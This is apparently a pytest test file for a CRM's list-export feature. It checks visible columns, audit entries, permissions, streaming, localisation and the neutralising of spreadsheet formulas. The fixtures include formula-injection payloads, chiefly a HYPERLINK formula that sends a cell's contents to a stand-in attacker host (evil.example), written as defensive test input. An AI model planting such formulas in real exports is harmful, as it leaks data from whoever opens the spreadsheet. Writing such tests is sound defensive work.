"""Exporting lists: visible columns only, audited, and safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from custos.accounts.models import Role
from custos.audit.models import AuditEntry
from custos.core.errors import PermissionDenied, ValidationFailed
from custos.core.tenancy import tenant_scope
from custos.crm.exports import export_records, neutralise
from custos.crm.models import Contact
from custos.crm.services.custom_fields import custom_field_create
from custos.crm.services.people import contact_create

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def contacts(cast):
    actor = cast.actor(cast.alice)
    with tenant_scope(cast.org_a):
        contact_create(actor=actor, data={"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"})
        contact_create(
            actor=actor,
            data={"first_name": HOSTILE, "last_name": "@SUM(1+1)", "notes": "x", "health_notes": "Asthma"},
        )


def _csv_rows(export):
    text = b"".join(export.chunks).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_csv_export_has_the_visible_columns_and_neutralised_formulas(cast, contacts):
    with tenant_scope(cast.org_a):
        export = export_records(cast.actor(cast.alice), "contact", Contact.objects.order_by("id"), file_format="csv")
    rows = _csv_rows(export)
    assert rows[0][:4] == ["First name", "Last name", "Email", "Phone"]
    assert rows[1][:3] == ["Ada", "Lovelace", "ada@example.org"]
    assert rows[2][:2] == ["'" + HOSTILE, "'@SUM(1+1)"]
    assert "Asthma" not in "".join(",".join(r) for r in rows)  # special category is never exported here
    assert export.filename.endswith(".csv")


def test_a_csv_export_read_at_semicolons_holds_no_formula_either(cast, contacts):
    """German and Polish spreadsheets split a CSV at semicolons: none may start a formula."""
    with tenant_scope(cast.org_a):
        contact_create(actor=cast.actor(cast.alice), data={"first_name": "b;=4+4", "last_name": "c;@SUM(1)"})
        export = export_records(cast.actor(cast.alice), "contact", Contact.objects.order_by("id"), file_format="csv")
    text = b"".join(export.chunks).decode("utf-8").removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_an_exported_file_imports_again_as_the_same_people(cast, contacts):
    """Further addresses, neutralised formulas and all: the export's people are found, not made anew."""
    from custos.crm.imports import import_start, import_upload
    from custos.crm.models import ImportJob
    from custos.testing import run_tasks

    actor = cast.actor(cast.alice)
    with tenant_scope(cast.org_a):
        contact_create(
            actor=actor,
            data={
                "last_name": "Lind",
                "email": "lind@example.org",
                "other_emails": ["home@example.net", "work@example.com"],
                "other_phones": ["0170 9876543", "030 1234567"],
            },
        )
        contact_create(actor=actor, data={"first_name": "b;=4+4", "last_name": "Semi", "email": "semi@example.org"})
        before = sorted(Contact.objects.values_list("first_name", "last_name", "email", "phone"))
        export = export_records(actor, "contact", Contact.objects.order_by("id"), file_format="csv")
        job = import_upload(
            actor=actor, object_type="contact", file_name="export.csv", stream=io.BytesIO(b"".join(export.chunks))
        )
        mapping = {
            "First name": "first_name",
            "Last name": "last_name",
            "Email": "email",
            "Phone": "phone",
            "More email addresses": "other_emails",
            "More phone numbers": "other_phones",
        }
        import_start(actor=actor, job=job, mapping=mapping, duplicates="update")
    run_tasks()
    with tenant_scope(cast.org_a):
        job = ImportJob.objects.get(pk=job.pk)
        assert (job.created_count, job.updated_count, job.rejected_count) == (0, 0, 0)
        assert sorted(Contact.objects.values_list("first_name", "last_name", "email", "phone")) == before


def test_an_xlsx_export_writes_text_never_formulas(cast, contacts):
    with tenant_scope(cast.org_a):
        export = export_records(cast.actor(cast.alice), "contact", Contact.objects.order_by("id"), file_format="xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(export.chunks))).active
    hostile = sheet.cell(row=3, column=1)
    assert hostile.value == HOSTILE and hostile.data_type == "s"


@pytest.fixture
def custom_values(cast):
    """A field whose label is a formula, and a number, an amount and a yes/no of one contact."""
    admin = cast.actor(cast.olive)
    with tenant_scope(cast.org_a):
        for key, label, kind in [
            ("balance", "=1+1", "number"),
            ("budget", "Budget", "money"),
            ("member", "Member", "yes_no"),
        ]:
            data = {"object_type": "contact", "key": key, "label": label, "kind": kind, "category": "none"}
            custom_field_create(actor=admin, data=data)
        contact_create(
            actor=admin,
            data={"last_name": "Lind", "custom_fields": {"balance": -5, "budget": "1250.5", "member": True}},
        )


def test_a_custom_fields_label_is_a_header_never_a_formula(cast, custom_values):
    """Found by the bug hunt: the header of a column came from the label as it was, a live
    formula in an XLSX file and not neutralised in a CSV one."""
    actor = cast.actor(cast.alice)
    with tenant_scope(cast.org_a):
        csv_export = export_records(actor, "contact", Contact.objects.all(), file_format="csv")
        xlsx_export = export_records(actor, "contact", Contact.objects.all(), file_format="xlsx")
    header = _csv_rows(csv_export)[0]
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_export.chunks))).active
    cell = sheet.cell(row=1, column=header.index("'=1+1") + 1)
    assert "=1+1" not in header
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_custom_numbers_are_numbers_and_yes_or_no_is_in_the_language_of_the_export(cast, custom_values):
    """A number is no formula: -5 is written as it is (not "'-5"), and an amount is a number
    in XLSX, not text; yes or no is said in the exporting user's language."""
    actor = cast.actor(cast.alice)
    with tenant_scope(cast.org_a), translation.override("de"):
        header, row = _csv_rows(export_records(actor, "contact", Contact.objects.all(), file_format="csv"))
        xlsx_export = export_records(actor, "contact", Contact.objects.all(), file_format="xlsx")
    shown = dict(zip(header, row, strict=True))
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_export.chunks))).active
    cells = {sheet.cell(row=1, column=n).value: sheet.cell(row=2, column=n) for n in range(1, sheet.max_column + 1)}
    assert (shown["'=1+1"], shown["Budget"], shown["Member"]) == ("-5", "1250.50", "Ja")
    assert (cells["=1+1"].value, cells["=1+1"].data_type) == (-5, "n")
    assert (cells["Budget"].value, cells["Budget"].data_type) == (1250.5, "n")
    assert cells["Member"].value == "Ja"


def test_hidden_fields_are_not_exported(cast, contacts):
    with tenant_scope(cast.org_a):
        Role.objects.filter(key="admin").update(hidden_fields=["contact.email"])
        rows = _csv_rows(export_records(cast.actor(cast.alice), "contact", Contact.objects.all(), file_format="csv"))
    assert "Email" not in rows[0]
    assert "ada@example.org" not in "".join(",".join(r) for r in rows)


def test_an_export_is_audited_with_count_and_columns_not_values(cast, contacts):
    with tenant_scope(cast.org_a):
        export_records(cast.actor(cast.alice), "contact", Contact.objects.all(), file_format="csv")
        entry = AuditEntry.objects.filter(action="contact.export").get()
    assert entry.extra == {"format": "csv", "count": 2}
    assert "email" in entry.fields and "Ada" not in str(entry.extra)


def test_exporting_needs_the_export_permission_and_a_known_format(cast, contacts):
    with tenant_scope(cast.org_a):
        with pytest.raises(PermissionDenied):
            export_records(cast.actor(cast.sam), "contact", Contact.objects.all(), file_format="csv")
        with pytest.raises(ValidationFailed):
            export_records(cast.actor(cast.alice), "contact", Contact.objects.all(), file_format="pdf")
        assert not AuditEntry.objects.filter(action="contact.export").exists()


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Müller") == "Müller"
    assert neutralise("-5") == "'-5"
    assert neutralise("+49 30") == "'+49 30"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_streamed_export_stays_in_the_language_it_was_asked_in(cast, file_format):
    """A streamed file is written after the view has returned, when the request's language
    may be gone from the thread (or another request's set there): headers and the lead's
    status are said in the language of the person exporting all the same."""
    from custos.crm.models import Lead
    from custos.crm.services.leads import lead_create

    actor = cast.actor(cast.alice)
    with tenant_scope(cast.org_a):
        lead_create(actor=actor, data={"first_name": "Ada", "last_name": "Lovelace"})
        with translation.override("de"):
            export = export_records(actor, "lead", Lead.objects.all(), file_format=file_format)
            expected = [str(Lead._meta.get_field("status").verbose_name), str(Lead.Status.NEW.label)]
    with translation.override("en"):
        content = b"".join(export.chunks)
    if file_format == "csv":
        header, row = list(csv.reader(io.StringIO(content.decode("utf-8").removeprefix("\ufeff"))))
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        header, row = ([str(cell.value or "") for cell in line] for line in sheet.iter_rows(max_row=2))
    assert "Vorname" in header and "First name" not in header
    assert dict(zip(header, row, strict=True))["Status"] == expected[1] != "New"


def test_an_xlsx_export_is_sent_in_pieces(cast, contacts, monkeypatch):
    """Found by the bug hunt: the whole XLSX file was built in memory before the first byte
    left, however long the list."""
    from custos.crm import exports

    monkeypatch.setattr(exports, "XLSX_CHUNK", 1024)
    with tenant_scope(cast.org_a):
        export = export_records(cast.actor(cast.alice), "contact", Contact.objects.order_by("id"), file_format="xlsx")
    pieces = list(export.chunks)
    assert len(pieces) > 1 and max(len(piece) for piece in pieces) <= 1024
    assert load_workbook(io.BytesIO(b"".join(pieces))).active.cell(row=2, column=1).value == "Ada"
